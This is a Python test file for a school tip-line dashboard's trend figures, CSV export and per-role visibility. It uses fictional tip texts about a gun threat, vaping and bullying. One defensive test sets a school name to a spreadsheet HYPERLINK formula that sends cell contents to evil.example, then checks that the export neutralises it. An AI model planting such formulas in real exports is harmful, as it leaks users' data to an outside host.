"""The dashboard's figures over time: tips per day by severity and category, minutes to
acknowledge per school and week (p50, p90), failed deliveries, the coming hours nobody is on
duty, the CSV; only for the schools the login sees."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from flask import Flask
from sqlalchemy import delete, select

from tests.support.admin import AuthActions, make_alert, make_tip
from tipline.db import utcnow
from tipline.extensions import db, dbsession
from tipline.models import Alert, OnCallOverride, OutboundMessage, School, Shift, Staff, User
from tipline.staff import dashboard, trends

WEAPON = "a kid said he is bringing a gun to school tomorrow, he showed it in the parking lot"
VAPING = "people are vaping in the upstairs bathroom every lunch"
# A Wednesday, 15:00 in Chicago (the example's schools' zone).
NOW = datetime(2026, 3, 4, 21, 0, tzinfo=UTC)


def figures(app: Flask, user_id: int, now: datetime = NOW) -> trends.Trends:
    with app.app_context():
        user = dbsession().get(User, user_id)
        assert user is not None
        return trends.trends(dbsession(), user, now)


def tip_at(app: Flask, text: str, at: datetime, school: str = "lincoln") -> str:
    return make_tip(app, text, school, age=utcnow() - at)


def test_tips_are_counted_per_day_by_severity_and_category(app: Flask, auth: AuthActions) -> None:
    user = auth.create_role("admin")  # Lincoln only
    tip_at(app, WEAPON, NOW - timedelta(hours=1))
    tip_at(app, VAPING, NOW - timedelta(hours=2))
    tip_at(app, VAPING, NOW - timedelta(days=3))
    tip_at(app, VAPING, NOW - timedelta(days=31))  # before the window
    tip_at(app, WEAPON, NOW - timedelta(hours=1), school="washington")  # not this login's
    found = figures(app, user)
    assert found.timezone == "America/Chicago"
    assert found.schools() == ["Lincoln High School"]
    severity = found.tips_by_severity["Lincoln High School"]
    assert len(severity.days) == trends.DAYS
    assert severity.days[-1].isoformat() == "2026-03-04"
    assert severity.counts["critical"][-1] == 1
    assert severity.counts["normal"][-1] == 1
    assert severity.counts["normal"][-4] == 1
    assert severity.total() == 3
    category = found.tips_by_category["Lincoln High School"]
    assert category.counts["weapon"][-1] == 1
    assert category.counts["drugs"][-1] + category.counts["drugs"][-4] == 2


def test_a_day_is_the_schools_day_not_utcs(app: Flask, auth: AuthActions) -> None:
    user = auth.create_role("admin")
    # 02:00 UTC on the 4th is 20:00 on the 3rd in Chicago.
    tip_at(app, VAPING, datetime(2026, 3, 4, 2, 0, tzinfo=UTC))
    counts = figures(app, user).tips_by_severity["Lincoln High School"]
    assert counts.counts["normal"][-2] == 1  # the 3rd


def ack_after(app: Flask, tip_id: str, opened: datetime, minutes: float | None) -> None:
    alert_id = make_alert(app, tip_id)
    with app.app_context():
        alert = dbsession().get(Alert, alert_id)
        assert alert is not None
        alert.created_at = opened
        if minutes is not None:
            alert.status, alert.acked_at = "acked", opened + timedelta(minutes=minutes)
        db.session.commit()


def test_minutes_to_acknowledge_per_school_and_week(app: Flask, auth: AuthActions) -> None:
    user = auth.create_role("district")  # every school
    this_week = NOW - timedelta(days=1)
    for minutes in (1, 2, 3, 4, 5, 6, 7, 8, 9, 30):
        ack_after(app, tip_at(app, WEAPON, this_week), this_week, minutes)
    ack_after(app, tip_at(app, WEAPON, this_week), this_week, None)  # never acknowledged
    last_week = NOW - timedelta(days=8)
    ack_after(app, tip_at(app, WEAPON, last_week), last_week, 12)
    found = {a.school: a for a in figures(app, user).ack}
    assert set(found) == {"Lincoln High School", "Washington Middle School"}
    lincoln = found["Lincoln High School"]
    assert len(lincoln.weeks) == trends.WEEKS
    assert lincoln.weeks[-1].isoformat() == "2026-03-02"  # the Monday of NOW's week
    assert (lincoln.p50[-1], lincoln.p90[-1]) == (5.0, 9.0)  # nearest rank
    assert (lincoln.acked[-1], lincoln.unacked[-1]) == (10, 1)
    assert (lincoln.p50[-2], lincoln.p90[-2]) == (12.0, 12.0)
    assert lincoln.p50[0] is None
    assert found["Washington Middle School"].acked == [0] * trends.WEEKS


def outbound(app: Flask, tip_id: str, channel: str, status: str, at: datetime) -> None:
    with app.app_context():
        dbsession().add(
            OutboundMessage(
                channel=channel,
                purpose="alert",
                tip_id=tip_id,
                to_label="ruiz",
                summary="CRITICAL weapon",
                status=status,
                created_at=at,
            )
        )
        db.session.commit()


def test_failed_deliveries_per_day_and_channel(app: Flask, auth: AuthActions) -> None:
    user = auth.create_role("admin")
    tip = tip_at(app, WEAPON, NOW - timedelta(hours=3))
    at = NOW - timedelta(hours=2)
    outbound(app, tip, "sms", "failed", at)
    outbound(app, tip, "sms", "undelivered", at)
    outbound(app, tip, "voice", "no-answer", at)
    outbound(app, tip, "sms", "delivered", at)
    outbound(app, tip, "sms", "canceled", at)  # an ack made it unneeded: not a failure
    other = tip_at(app, WEAPON, NOW - timedelta(hours=3), school="washington")
    outbound(app, other, "sms", "failed", at)
    failed = figures(app, user).failed
    assert list(failed) == ["Lincoln High School"]
    assert failed["Lincoln High School"].counts["sms"][-1] == 2
    assert failed["Lincoln High School"].counts["voice"][-1] == 1
    assert failed["Lincoln High School"].total() == 3


def school_id(app: Flask, slug: str) -> int:
    with app.app_context():
        return int(dbsession().scalars(select(School.id).where(School.slug == slug)).one())


def test_hours_with_nobody_on_duty_in_the_next_seven_days(app: Flask, auth: AuthActions) -> None:
    user = auth.create_role("district")
    washington = school_id(app, "washington")
    with app.app_context():
        dbsession().execute(delete(Shift).where(Shift.school_id == washington))
        nguyen = dbsession().scalars(select(Staff).where(Staff.key == "nguyen")).one()
        dbsession().add(  # an override covers two hours of the gap
            OnCallOverride(
                school_id=washington,
                staff_id=nguyen.id,
                duty="admin",
                start=NOW + timedelta(hours=5),
                end=NOW + timedelta(hours=7),
                created_by="test",
            )
        )
        db.session.commit()
    found = {u.school: u for u in figures(app, user).uncovered}
    assert found["Lincoln High School"].hours == []  # the example covers every hour
    gap = found["Washington Middle School"]
    assert len(gap.hours) == trends.AHEAD_HOURS - 2
    assert gap.hours[0].isoformat() == "2026-03-04T15:00:00-06:00"  # the current hour, local
    assert {h.hour for h in gap.hours if h.day == 4} == set(range(15, 24)) - {20, 21}
    grid = dict(gap.grid())
    first = grid[min(grid)]
    assert first[:15] == [None] * 15  # before the current hour: not looked at
    assert first[15] is True
    assert first[20] is False  # the override


def test_the_csv_holds_every_number(app: Flask, auth: AuthActions) -> None:
    user = auth.create_role("admin")
    tip = tip_at(app, WEAPON, NOW - timedelta(hours=1))
    ack_after(app, tip, NOW - timedelta(hours=1), 4)
    rows = trends.csv_rows(figures(app, user))
    assert rows[0] == ["figure", "school", "period", "series", "value"]
    assert ["tips_by_severity", "Lincoln High School", "2026-03-04", "critical", "1"] in rows
    assert ["tips_by_category", "Lincoln High School", "2026-03-04", "weapon", "1"] in rows
    assert ["ack_minutes", "Lincoln High School", "week of 2026-03-02", "p50", "4.0"] in rows
    assert ["alerts", "Lincoln High School", "week of 2026-03-02", "acked", "1"] in rows
    assert {row[1] for row in rows[1:]} == {"Lincoln High School"}


def csp(response: Any) -> str:
    return str(response.headers["Content-Security-Policy"])


def test_the_dashboard_draws_its_charts_inline_without_style_or_script(
    app: Flask, auth: AuthActions
) -> None:
    make_alert(app, make_tip(app, WEAPON))
    make_tip(app, WEAPON, "washington")
    auth.login_as("admin")
    response = auth.client.get("/admin/dashboard")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    # Tips by severity and by category, and the acknowledgement chart of the one open alert.
    assert page.count('<svg class="chart"') == 3
    assert "style=" not in page
    assert "<script" not in page
    assert "script-src 'none'" in csp(response)
    assert "Washington" not in page  # a school this login does not see


def test_the_csv_download_names_only_the_logins_schools(app: Flask, auth: AuthActions) -> None:
    make_tip(app, WEAPON)
    make_tip(app, WEAPON, "washington")
    auth.login_as("admin")
    response = auth.client.get("/admin/dashboard.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == ["figure", "school", "period", "series", "value"]
    assert {row[1] for row in rows[1:]} == {"Lincoln High School"}
    assert sum(int(r[4]) for r in rows if r[0] == "tips_by_severity") == 1


def test_the_csv_needs_a_signed_in_login(client: Any) -> None:
    response = client.get("/admin/dashboard.csv")
    assert response.status_code == 302
    assert "/admin/login" in response.headers["Location"]


def test_a_school_name_cannot_become_a_formula_in_the_csv(app: Flask, auth: AuthActions) -> None:
    with app.app_context():
        school = dbsession().scalars(select(School).where(School.slug == "lincoln")).one()
        school.name = '=HYPERLINK("https://evil.example/?"&A1,"open")'
        db.session.commit()
    auth.login_as("admin")
    body = auth.client.get("/admin/dashboard.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert {row[1] for row in rows[1:]} == {'\'=HYPERLINK("https://evil.example/?"&A1,"open")'}


BULLYING = "some older kids keep pushing my friend in the hallway and calling him names"


def test_a_counselor_counts_nothing_of_tips_it_may_not_view(app: Flask, auth: AuthActions) -> None:
    # The example's "life-safety" policy pages no counselor: a counselor does not view a
    # critical weapon tip (docs/access.md), so the charts must not count it or its alert.
    user = auth.create_role("counselor")
    weapon = tip_at(app, WEAPON, NOW - timedelta(hours=1))
    ack_after(app, weapon, NOW - timedelta(hours=1), 3)
    bullying = tip_at(app, BULLYING, NOW - timedelta(hours=1))
    ack_after(app, bullying, NOW - timedelta(hours=1), 6)
    outbound(app, weapon, "sms", "failed", NOW - timedelta(minutes=50))
    found = figures(app, user)
    category = found.tips_by_category["Lincoln High School"]
    assert category.total() == 1
    assert category.counts["bullying"][-1] == 1
    assert category.counts["weapon"][-1] == 0
    assert found.tips_by_severity["Lincoln High School"].counts["critical"][-1] == 0
    [lincoln] = found.ack
    assert (lincoln.acked[-1], lincoln.p50[-1]) == (1, 6.0)
    assert found.failed["Lincoln High School"].total() == 0
    # The same figures for the school's admin count both.
    admin = figures(app, auth.create_role("admin"))
    assert admin.tips_by_category["Lincoln High School"].total() == 2
    assert admin.ack[0].acked[-1] == 2


def test_the_counts_table_leaves_out_tips_the_login_may_not_view(
    app: Flask, auth: AuthActions
) -> None:
    make_tip(app, WEAPON)
    make_tip(app, BULLYING)
    auth.login_as("counselor")
    with app.app_context():
        user = dbsession().scalars(select(User).where(User.role == "counselor")).one()
        board = dashboard.build(dbsession(), user, utcnow())
    assert [(c.days, c.total, c.by_severity["critical"]) for c in board.counts] == [
        (7, 1, 0),
        (30, 1, 0),
    ]
